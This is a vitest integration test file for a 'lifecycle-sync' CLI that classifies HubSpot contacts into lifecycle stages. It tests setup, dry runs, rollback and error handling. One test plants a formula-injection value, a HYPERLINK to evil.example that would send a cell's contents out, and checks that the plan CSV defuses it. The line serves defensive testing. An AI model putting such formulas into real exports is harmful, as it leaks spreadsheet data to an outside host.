/**
 * The commands an admin types, in child processes against the HubSpot sandbox: setup, sync (dry run,
 * --json), runs, explain, rollback; and what they say when something is wrong.
 */
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { STAGES_IN_LIFECYCLE_ORDER } from '../../src/classifier/types.ts';
import { loadConfig } from '../../src/config/load.ts';
import { spawnCli, type CliResult } from '../cliChild.ts';
import { createHarness, type Harness } from './harness.ts';
import { FIELD_KEYS } from '../../connectors/contract/index.ts';

let h: Harness;
beforeAll(async () => {
  h = await createHarness({ dataset: { contacts: 120 } });
});
afterAll(async () => {
  await h.close();
});

function cli(args: string[], env: Record<string, string | undefined> = {}): Promise<CliResult> {
  return spawnCli(args, { ...h.env, LIFECYCLE_SYNC_CONFIG: h.configPath, ...env }, h.dir);
}

interface JsonSummary {
  runId: string;
  status: string;
  kind: string;
  pulled: { customers: number; deals: number };
  classified: number;
  changed: number;
  written: number;
  failed: number;
  requests: number;
  planCsv: string | null;
}

describe('lifecycle-sync commands against the HubSpot sandbox', () => {
  it('setup --dry-run reports, setup creates, a second setup finds everything in place', async () => {
    const dry = await cli(['setup', '--dry-run']);
    expect(dry.code, dry.stderr).toBe(0);
    expect(dry.stdout).toMatch(new RegExp(`${FIELD_KEYS.length} fields would be created: lcs_stage, lcs_stage_reason`));
    expect(dry.stdout).toMatch(/Nothing was changed \(dry run\)/);
    expect(h.sandbox.data.getProperty('contacts', 'lcs_stage')).toBeUndefined();

    const setup = await cli(['setup']);
    expect(setup.code, setup.stderr).toBe(0);
    expect(setup.stdout).toMatch(new RegExp(`${FIELD_KEYS.length} fields were created`));
    expect(h.sandbox.data.getProperty('contacts', 'lcs_churn_risk')?.type).toBe('number');
    const again = await cli(['setup', '--json']);
    expect(JSON.parse(again.stdout)).toMatchObject({ crm: 'hubspot', created: [], updated: [] });
  });

  it('sync --dry-run --json: the summary, and a CSV of the planned changes; nothing written', async () => {
    const run = await cli(['sync', '--dry-run', '--json']);
    expect(run.code, run.stderr).toBe(0);
    const s = JSON.parse(run.stdout) as JsonSummary;
    expect(s).toMatchObject({ kind: 'dry_run', status: 'succeeded', pulled: { customers: 120 }, classified: 120, changed: 120, written: 0, failed: 0 });
    expect(s.requests).toBeGreaterThan(0);
    expect(s.planCsv).toBeTruthy();
    const csv = readFileSync(s.planCsv ?? '', 'utf8').trim().split(/\r?\n/);
    expect(csv[0]).toBe('recordId,field,current,planned');
    expect(csv.filter((l) => l.includes(',stage,')).length).toBe(120);
    expect([...h.crmValues().values()].every((v) => v.lcs_stage === null)).toBe(true);
  });

  it('sync, runs, explain and rollback', async () => {
    const run = await cli(['sync', '--json']);
    expect(run.code, run.stderr).toBe(0);
    const s = JSON.parse(run.stdout) as JsonSummary;
    expect(s).toMatchObject({ kind: 'sync', status: 'succeeded', written: 120, failed: 0 });

    const runs = await cli(['runs']);
    expect(runs.code, runs.stderr).toBe(0);
    expect(runs.stdout).toContain(s.runId);
    expect(runs.stdout).toMatch(/dry_run\s+succeeded/);

    const [contactId] = h.sandbox.data.contactIds();
    const explain = await cli(['explain', contactId]);
    expect(explain.code, explain.stderr).toBe(0);
    const props = h.sandbox.data.getContact(contactId)?.properties ?? {};
    const stage = z.enum(STAGES_IN_LIFECYCLE_ORDER).parse(props.lcs_stage);
    const label = loadConfig().classifier.stages[stage].label;
    // Who it is, as the CRM shows them, then its stage by its label; the scores in sentences (sync/describe.ts).
    expect(explain.stdout).toContain(`${props.firstname} ${props.lastname} (${props.email}), HubSpot record ${contactId}: ${label}\n`);
    expect(explain.stdout).toContain(props.lcs_churn_risk ? `\n  Churn risk ${props.lcs_churn_risk} % (${props.lcs_churn_risk_band}): ` : '\n  No purchase yet, so no churn risk');
    expect(explain.stdout).toMatch(/^Purchases: \d+ purchases? .*\n {2}\d{4}-\d\d-\d\d +\$[\d,.]+ {2}deal \S+$/m);
    expect(explain.stdout).toContain(`Sync ${s.runId}\n    Lifecycle stage: empty → ${label}\n`);

    const noErrors = await cli(['runs', '--errors', s.runId]);
    expect(noErrors.code, noErrors.stderr).toBe(0);
    expect(noErrors.stdout.trim()).toBe(`${s.runId} has no per-record errors (succeeded, 0 failed).`);
    const missing = await cli(['runs', '--errors', 'run_nonexistent']);
    expect(missing.code).toBe(1);
    expect(missing.stderr.trim()).toBe('lifecycle-sync: no run run_nonexistent for hubspot');

    const rollback = await cli(['rollback', s.runId, '--json']);
    expect(rollback.code, rollback.stderr).toBe(0);
    expect(JSON.parse(rollback.stdout)).toMatchObject({ kind: 'rollback', status: 'succeeded', written: 120 });
    expect([...h.crmValues().values()].every((v) => Object.values(v).every((x) => x === null))).toBe(true);
  });

  it("sync --dry-run's CSV: a value planted in the CRM is written as text, not as a formula; a negative number stays a number", async () => {
    const [contactId] = h.sandbox.data.contactIds();
    const planted = '=HYPERLINK("http://evil.example/?d="&A2,"Open")';
    h.sandbox.data.updateContact(contactId, { lcs_stage_reason: planted, lcs_next_action: '@SUM(A1:A9)', lcs_ltv: '-12.5' });
    const run = await cli(['sync', '--dry-run', '--json']);
    expect(run.code, run.stderr).toBe(0);
    const csv = readFileSync((JSON.parse(run.stdout) as JsonSummary).planCsv ?? '', 'utf8');
    const rows = Papa.parse<Record<string, string>>(csv.trim(), { header: true }).data.filter((r) => r.recordId === contactId);
    const current = Object.fromEntries(rows.map((r) => [r.field, r.current]));
    expect(current).toMatchObject({ stageReason: `'${planted}`, nextAction: "'@SUM(A1:A9)", ltv: '-12.5' });
    // Every cell a spreadsheet would evaluate starts with the quote.
    for (const line of Papa.parse<string[]>(csv.trim()).data) for (const cell of line) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('explain of an unknown record, rollback of an unknown run, a bad flag: one line and exit code 1', async () => {
    const unknown = await cli(['explain', '999999999']);
    expect(unknown.code).toBe(1);
    expect(unknown.stderr.trim()).toBe('lifecycle-sync: no customer 999999999 in installation hubspot: not among the records its last pull found (or no sync has run yet)');
    const rollback = await cli(['rollback', 'run_nope']);
    expect(rollback.code).toBe(1);
    expect(rollback.stderr).toMatch(/no run run_nope/);
    const asOf = await cli(['sync', '--as-of', '2026-13-01']);
    expect(asOf.code).toBe(1);
    expect(asOf.stderr).toMatch(/--as-of/);
  });

  it('sync --as-of in the future or before every purchase is refused with the allowed range; exit 1, no record written (issue 8)', async () => {
    const first = await cli(['sync', '--json']);
    expect(first.code, first.stderr).toBe(0);
    const before = h.crmValues();
    const runsBefore = (await h.store.listRuns('hubspot', 1000)).length;
    const future = await cli(['sync', '--as-of', '2999-01-01']);
    expect(future.code).toBe(1);
    expect(future.stderr.trim()).toMatch(/^lifecycle-sync: the as-of date \(--as-of\) 2999-01-01 is in the future: it must be from 1900-01-01 to \d{4}-\d\d-\d\d .*; no record was written$/);
    expect(await h.store.listRuns('hubspot', 1000)).toHaveLength(runsBefore);
    const past = await cli(['sync', '--as-of', '1900-01-01', '--force', '--json']);
    expect(past.code).toBe(1);
    const summary = JSON.parse(past.stdout) as JsonSummary & { message: string };
    expect(summary).toMatchObject({ status: 'failed', written: 0 });
    expect(summary.message).toMatch(/^the as-of date \(--as-of\) 1900-01-01 is before the first purchase \(\d{4}-\d\d-\d\d\), so every customer would be scored as a prospect: it must be from \d{4}-\d\d-\d\d to/);
    expect(h.crmValues()).toEqual(before);
  });

  it('sync --as-of before the last successful sync is refused off a terminal unless --force; a dry run is not', { timeout: 180_000 }, async () => {
    const last = await cli(['sync', '--json']);
    expect(last.code, last.stderr).toBe(0);
    const lastRun = (await h.store.listRuns('hubspot', 1))[0];
    const earlier = new Date(Date.parse(`${lastRun.asOf}T00:00:00Z`) - 10 * 86_400_000).toISOString().slice(0, 10);
    const before = h.crmValues();
    const refused = await cli(['sync', '--as-of', earlier]);
    expect(refused.code).toBe(1);
    expect(refused.stderr.trim()).toBe(
      `lifecycle-sync: --as-of ${earlier} is before the last successful sync's (${lastRun.id}, as of ${lastRun.asOf}): its older scores would overwrite newer ones in the CRM; add --force if that is what you want (or --dry-run to preview)`,
    );
    expect(h.crmValues()).toEqual(before);
    expect((await cli(['sync', '--as-of', earlier, '--dry-run', '--json'])).code).toBe(0);
    const forced = await cli(['sync', '--as-of', earlier, '--force', '--json']);
    expect(forced.code, forced.stderr).toBe(0);
    expect(JSON.parse(forced.stdout)).toMatchObject({ status: 'succeeded', asOf: earlier });
  });

  it('sync --plan-csv naming the state database or the config file is refused before the run; both intact (issue 8)', async () => {
    const runsBefore = (await h.store.listRuns('hubspot', 1000)).length;
    const config = readFileSync(h.configPath, 'utf8');
    for (const [target, what] of [[h.dbPath, 'the state database'], [h.configPath, 'the configuration file']]) {
      const r = await cli(['sync', '--dry-run', '--plan-csv', target]);
      expect(r.code).toBe(1);
      expect(r.stderr.trim()).toBe(`lifecycle-sync: --plan-csv ${target} is ${what}: writing the plan there would destroy it`);
    }
    expect(readFileSync(h.configPath, 'utf8')).toBe(config);
    expect(await h.store.listRuns('hubspot', 1000)).toHaveLength(runsBefore);
  });

  it('rejected credentials: setup and sync fail with a one-line message and exit code 1, and never print the token', async () => {
    const token = 'pat-na1-00000000-not-a-real-token-000000000000';
    const setup = await cli(['setup'], { HUBSPOT_ACCESS_TOKEN: token });
    expect(setup.code).toBe(1);
    expect(setup.stderr).toMatch(/^lifecycle-sync: the hubspot credentials do not work: HubSpot rejected the credentials/);
    const sync = await cli(['sync', '--json'], { HUBSPOT_ACCESS_TOKEN: token });
    expect(sync.code).toBe(1);
    expect((JSON.parse(sync.stdout) as JsonSummary).status).toBe('failed');
    for (const out of [setup.stdout, setup.stderr, sync.stdout, sync.stderr]) expect(out).not.toContain(token);
  });

  it('no credentials any more: says how to set them, in one line', async () => {
    // The store holds this file's one installation (HubSpot, from the environment's earlier credentials):
    // it is the one chosen, and its credentials are what is missing.
    const run = await cli(['sync'], { HUBSPOT_ACCESS_TOKEN: '', HUBSPOT_REFRESH_TOKEN: '' });
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/^lifecycle-sync: no HubSpot credentials: set HUBSPOT_ACCESS_TOKEN .*\n$/);
  });
});
